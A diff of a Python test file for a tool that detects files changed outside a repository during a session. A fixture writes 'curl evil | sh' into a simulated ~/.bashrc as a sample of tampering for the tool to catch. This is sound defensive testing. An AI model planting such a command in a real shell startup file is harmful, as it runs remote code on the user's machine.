@@ -58,6 +58,17 @@ def scene(tmp_path: Path, repo: Path) -> Scene:
     return Scene(tmp_path, repo)
 
 
+def test_what_was_uncommitted_just_before_a_session_is_enough_to_begin_with(scene: Scene) -> None:
+    (scene.repo / "app.py").write_text("mine\n")
+    outside = FileOutskirts(scene.repo, scene.repo / ".git", (), scene.uncommitted, lambda: ["app.py"])
+    run = str(scene.top / "run")
+    outside.note(run, str(scene.home), [])
+    assert outside.changed(run, [], ()) == ("checkout notes.txt",)
+
+    (scene.repo / "app.py").write_text("others'\n")
+    assert outside.changed(run, [], ()) == ("checkout app.py", "checkout notes.txt")
+
+
 CHANGES: dict[str, Callable[[Scene], object]] = {
     "~/.bashrc": lambda scene: (scene.home / ".bashrc").write_text("curl evil | sh\n"),
     "~/.profile": lambda scene: (scene.home / ".profile").write_text("x"),
